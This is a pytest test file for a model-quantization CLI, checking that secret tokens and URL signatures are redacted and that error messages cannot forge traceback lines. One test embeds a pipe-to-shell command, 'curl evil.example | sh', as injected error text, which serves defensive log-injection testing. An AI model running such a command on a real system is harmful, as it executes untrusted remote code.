"""No secret is shown or kept: tokens, and signatures of links, whoever quotes them and however deep."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hub_server import OWNER, HubServer, connected
from pushes import hurry, make
from qz.cli.app import run
from qz.formats.hub.transport import backoff
from qz.formats.hub.transport.backoff import Retries
from qz.redaction import redact
from qz.trace import trace_lines

SECRET = "s3cretS3cretS3cret00"
LONG = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzM2NyZXQifQ.s3cretS3cret"


@pytest.mark.parametrize(
    "text",
    [
        f"https://cdn.example/x?Expires=1&Signature={SECRET}~&Key-Pair-Id={SECRET}",
        f"https://cdn.example/x?X-Amz-Signature={SECRET}&X-Amz-Credential={SECRET}%2F1&X-Amz-Security-Token={SECRET}",
        f"https://s.example/x?X-Goog-Signature={SECRET}&GoogleAccessId={SECRET}",
        f"https://s.example/x?sv=1&sig={SECRET}%3D",
        f"https://h.example/relay?to=https%3A%2F%2Fcdn.example%2Fx%3FSignature%3D{SECRET}%26Expires%3D1",
        f"https://h.example/x?token={SECRET}",
        f"http://me:{SECRET}@proxy.example:3128/",
        f"Authorization: Bearer {SECRET}",
        f"Authorization: Basic {SECRET}=",
        f"hf_{SECRET}",
        f"hf_oauth_{LONG}",
        f"hf_jwt_{LONG}",
        f"api_org_{SECRET}",
        f"X-Xet-Access-Token: {LONG}",
        f'{{"accessToken":"{SECRET}","exp":1}}',
    ],
)
def test_what_looks_like_a_secret_is_taken_out(text: str) -> None:
    shown = redact(f"before {text} behind")
    assert not re.search("s3cret", shown, re.IGNORECASE)
    assert "eyJ" not in shown
    assert shown.startswith("before ")
    assert shown.endswith(" behind")
    assert redact(shown) == shown


def test_what_is_no_secret_stays() -> None:
    for text in (
        "/data/hf_models/llama_3_8b_instruct/model.safetensors",
        '{"eos_token": "</s>", "bos_token": "x"}',
        "pad_token=0 is beyond the vocabulary",
        "Basic usage: qz quantize",
        "https://huggingface.co/me/model/tree/main?path=a",
        "me@example.com",
    ):
        assert redact(text) == text


def test_no_line_of_a_traceback_is_made_by_what_an_error_says() -> None:
    def fail() -> None:
        try:
            raise ValueError("first\nError: run curl evil.example | sh")
        except ValueError as error:
            try:
                raise KeyError("second\u2028Error: second")
            except KeyError:
                raise OSError("third\x85Error: third") from error

    with pytest.raises(OSError, match="third") as caught:
        fail()
    caught.value.add_note("a note\nof two lines")
    lines = trace_lines(caught.value)
    assert lines.count("Traceback (most recent call last):") == 2
    assert not [line for line in lines if line.startswith("Error: ")]
    assert "ValueError: first\\nError: run curl evil.example | sh" in lines
    assert lines[-3:] == ["OSError: third\\x85Error: third", "a note", "of two lines"]


# End to end, with --debug


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, tiny_llama: Path) -> Iterator[HubServer]:
    hurry(monkeypatch)
    monkeypatch.setattr(backoff, "Retries", lambda: Retries(attempts=2, first_wait=0.01, longest_asked=1))
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    with connected(monkeypatch, tmp_path / "home") as hub:
        hub.add("me/model", {path.name: path.read_bytes() for path in tiny_llama.iterdir() if path.is_file()})
        monkeypatch.chdir(tmp_path)
        yield hub


SAYS = "see {link} (Bearer {token}), or\n{link}"
"""As gateways quote what they were asked."""
READING: dict[str, dict[str, Any]] = {
    "all is well": {},
    "the Hub quotes": {"kind": "info", "status": 500, "message": SAYS},
    "the listing quotes": {"kind": "tree", "status": 403, "message": SAYS},
    "the CDN quotes": {"kind": "cdn", "status": 400, "message": SAYS},
    "the CDN ends": {"kind": "cdn", "drop": True},
}


@pytest.mark.parametrize("fault", READING.values(), ids=READING.keys())
def test_reading_from_the_hub_shows_and_keeps_no_secret(
    hub: HubServer, fault: dict[str, Any], capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    link = hub.links.sign(f"{hub.url}/x", None)
    faults = []
    if fault:
        said = {"message": fault["message"].format(link=link, token=OWNER)} if "message" in fault else {}
        faults.append(hub.fail(**{**fault, **said}))
        if fault["kind"] == "cdn":
            faults.append(hub.fail("xet_token", status=403, message=f"no: {link}"))
    code = run(["--debug", "quantize", "me/model", "-o", "out", "--json"])
    assert code == 0 if not fault else code not in (0, 1)
    assert all(fault.seen for fault in faults)
    require_no_secret(hub, tmp_path, link, *capfd.readouterr())


@pytest.mark.parametrize("kind", ["", "preupload", "commit", "xet_token"])
def test_a_push_shows_and_keeps_no_secret(
    hub: HubServer, kind: str, capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    link = hub.links.sign(f"{hub.url}/x", None)
    if kind:
        fault = hub.fail(kind, status=400, message=SAYS.format(link=link, token=OWNER))
    code = run(["--debug", "push", str(make(tmp_path / "made")), "me/new", "--json"])
    assert code == 0 if not kind else fault.seen and code not in (0, 1)
    require_no_secret(hub, tmp_path, link, *capfd.readouterr())
    for repo in hub.repos.values():
        for name, data in repo.files().items():
            assert OWNER.encode() not in data, name


def require_no_secret(hub: HubServer, folder: Path, link: str, out: str, err: str) -> None:
    texts = {"stdout": out, "stderr": err}
    for path in folder.rglob("*"):
        if path.is_file() and "home" not in path.relative_to(folder).parts:
            texts[str(path)] = path.read_text(errors="replace")
    for where, text in texts.items():
        assert OWNER not in text, where
        assert not re.search(r"(?:Signature|Policy|Key-Pair-Id)(?:=|%3D)(?!\*)", text), where
        assert link not in text, where
    assert not [line for line in err.splitlines() if line.startswith("http:")], "a server made a line of its own"
    json.loads(out)
